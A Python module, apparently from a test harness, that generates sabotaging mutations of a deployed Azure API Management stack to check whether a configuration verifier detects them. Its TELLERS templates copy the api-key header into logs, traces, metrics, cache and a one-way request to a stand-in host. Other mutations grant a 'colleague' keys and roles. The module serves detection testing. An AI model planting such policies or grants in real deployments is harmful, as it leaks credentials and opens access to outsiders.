"""Add what a colleague could beside the stack: policies of other scopes, keys, products, roles."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from dataclasses import dataclass

from harness.azure import manager
from harness.machine import Machine
from harness.sabotage.generated.bench import Bench
from harness.sabotage.generated.mutation import Mutation
from harness.sabotage.site import API, POLICY, PRODUCT, ROLE, Json
from queries.check.configuration.deployed import Configuration
from queries.check.proofs.base import Verdict
from queries.check.proofs.findings import verdict
from queries.outputs import Target, target
from sandbox import rbac
from sandbox.arm.base import SERVICE, WORKSPACE, parse
from sandbox.cloud import Resource

FINDINGS = ("routes", "access", "declared", "audit", "streams")
"""Proofs by the deployed configuration, beside `drift`."""
OK = frozenset({"seen", "skipped"})
READ = re.compile(r'\b(Variables|Headers)\.GetValueOrDefault(?:<\w+>)?\("([^"]+)"')
"""What the stack's own policy reads by name."""
KEY = 'context.Request.Headers.GetValueOrDefault("api-key", "")'
TELLERS = {
    "log-to-eventhub": '<log-to-eventhub logger-id="x">@({})</log-to-eventhub>',
    "trace": '<trace source="x"><message>@({})</message></trace>',
    "emit-metric": '<emit-metric name="x"><dimension name="k" value="@({})" /></emit-metric>',
    "cache-store-value": '<cache-store-value key="k" value="@({})" duration="9" />',
    "send-one-way-request": '<send-one-way-request mode="new"><set-url>https://x.example</set-url>'
    "<set-body>@({})</set-body></send-one-way-request>",
}
USER = "5e0bd9bd-7b93-4f28-af87-19fc36ad61bd"
READER = "acdd72a7-3385-48ef-bd42-f606fba81ae7"


@dataclass(frozen=True)
class Beside:
    """A deployed stack in memory, and what its outputs told the check."""

    bench: Bench
    told: Target

    @classmethod
    def of(cls, deployed: Machine) -> Beside:
        """Take a deployed stack; it is not changed."""
        return cls(Bench.of(deployed), target(deployed.outputs()))

    def judge(self) -> Verdict:
        """Judge all that is read of the deployed configuration; return the worst verdict."""
        read = Configuration(target=self.told, manager=manager(self.bench.cloud))
        found = [self.bench.judge()]
        found += [verdict(name, getattr(read, name)()) for name in FINDINGS]
        return max(found, key=lambda one: {"failed": 2}.get(one.status, 1) * (one.status not in OK))

    def the(self, kind: str) -> str:
        """Return the id of the stack's only resource of a type."""
        (found,) = self.bench.cloud.of_type(kind)
        return found.id

    def adding(self, resources: dict[str, Json]) -> Callable[[], Verdict]:
        """Return what adds resources for a while, past all rules of Azure, and judges."""

        def judged() -> Verdict:
            with ExitStack() as stack:
                for resource_id, properties in resources.items():
                    one = parse(resource_id)
                    made = Resource(resource_id, one.type, one.name, {"properties": properties})
                    stack.enter_context(self.bench.having(made))
                return self.judge()

        return judged


def document(inbound: str) -> Json:
    """Write a policy with statements before those of the scopes around it."""
    text = f"<policies><inbound><base />{inbound}</inbound></policies>"
    return {"format": "rawxml", "value": text}


def policies(beside: Beside) -> Iterator[Mutation]:
    """Put each statement that changes or tells calls into each policy around the stack's own."""
    api, own = beside.the(API), beside.bench.stored(beside.the(POLICY)).properties["value"]
    places = {"all APIs": beside.the(SERVICE), "the product": beside.the(PRODUCT)}
    places |= {
        f"the operation {one.name}": one.id
        for one in beside.bench.cloud.below(api)
        if one.type.endswith("/apis/operations")
    }
    changes = {"x-policy-id", "x-ms-spillover-deployment"}
    changes |= {name for kind, name in READ.findall(own) if kind == "Headers"}
    variables = {name for kind, name in READ.findall(own) if kind == "Variables"}
    lines = {
        **{f"header {name}": (_header(name), name) for name in sorted(changes)},
        **{f"variable {name}": (_variable(name), name) for name in sorted(variables)},
        **{f"key by {name}": (text.format(KEY), name) for name, text in TELLERS.items()},
    }
    for place, parent in places.items():
        for name, (line, word) in lines.items():
            yield Mutation(
                kind="policy added",
                name=f"{name} in {place}",
                words=(word,),
                judged=beside.adding({f"{parent}/policies/policy": document(line)}),
            )


def _header(name: str) -> str:
    return f'<set-header name="{name}" exists-action="override"><value>x</value></set-header>'


def _variable(name: str) -> str:
    return f'<set-variable name="{name}" value="x" />'


def doors(beside: Beside) -> Iterator[Mutation]:
    """Open the API and the accounts to somebody else, in each way that there is."""
    service, api = beside.the(SERVICE), beside.the(API)
    name, product = api.rpartition("/")[2], f"{service}/products/theirs"
    key = {"state": "active", "displayName": "theirs"}
    ways: dict[str, tuple[dict[str, Json], str]] = {
        f"key to {scope.removeprefix(service)}": (
            {f"{service}/subscriptions/theirs": key | {"scope": scope}},
            "theirs",
        )
        for scope in (beside.the(PRODUCT), api, f"{api};rev=1", f"{service}/apis", f"{service}/")
    }
    for link in (f"apiLinks/{name}", f"apis/{name}"):
        made = {product: {"state": "published"}, f"{product}/{link}": {"apiId": api}}
        ways[f"product by {link.partition('/')[0]}"] = (made, "product theirs")
    for account in beside.told.every_account:
        ways[f"role on {account.id}"] = ({_role(account.id): _assigned(USER)}, rbac.COLLEAGUE)
        if not account.existing:
            deployment = {f"{account.id}/deployments/theirs": {"model": {"name": "x"}}}
            ways[f"deployment of {account.id}"] = (deployment, "deployment theirs")
    for name, (resources, word) in ways.items():
        yield Mutation(
            kind="door opened", name=name, words=(word,), judged=beside.adding(resources)
        )


def _role(scope: str) -> str:
    return f"{scope}/providers/{ROLE}/00000000-0000-4000-8000-000000000009"


def _assigned(role: str) -> Json:
    definition = f"/providers/{rbac.DEFINITION}/{role}"
    holder = {"principalId": rbac.COLLEAGUE, "principalType": "User"}
    return holder | {"roleDefinitionId": definition}


def harmless(beside: Beside) -> Iterator[tuple[str, Verdict]]:
    """Judge what may lie beside the stack, as it takes no call, changes none and shows none."""
    service, account = beside.the(SERVICE), beside.told.every_account[0].id
    chat = beside.told.every_account[0].backend_url
    unused: dict[str, dict[str, Json]] = {
        "a backend that nothing names": {f"{service}/backends/x": {"url": chat}},
        "a value that nothing names": {
            f"{service}/namedValues/x": {"displayName": "x", "value": chat}
        },
        "a fragment that nothing includes": {
            f"{service}/policyFragments/x": {"value": "<fragment><mock-response /></fragment>"}
        },
        "a logger": {f"{service}/loggers/x": {"loggerType": "azureEventHub"}},
        "a product without APIs": {f"{service}/products/x": {"state": "published"}},
        "an API that leads elsewhere": {
            f"{service}/apis/x": {"path": "x", "serviceUrl": "https://x.example"}
        },
        "a filter that no deployment names": {f"{account}/raiPolicies/x": {}},
        "a reader of the account": {_role(account): _assigned(READER)},
        "a role on the workspace": {_role(beside.the(WORKSPACE)): _assigned(READER)},
        "a header for the account's support": {
            f"{beside.the(PRODUCT)}/policies/policy": document(_header("x-correlation-id"))
        },
        "a metric by team": {
            f"{service}/policies/policy": document(
                TELLERS["emit-metric"].format(KEY.replace("api-key", "x-team"))
            )
        },
    }
    for name, resources in unused.items():
        yield name, beside.adding(resources)()


def mutations(deployed: Machine) -> Iterator[Mutation]:
    """Make every mistake of this module of a deployed stack."""
    beside = Beside.of(deployed)
    yield from policies(beside)
    yield from doors(beside)
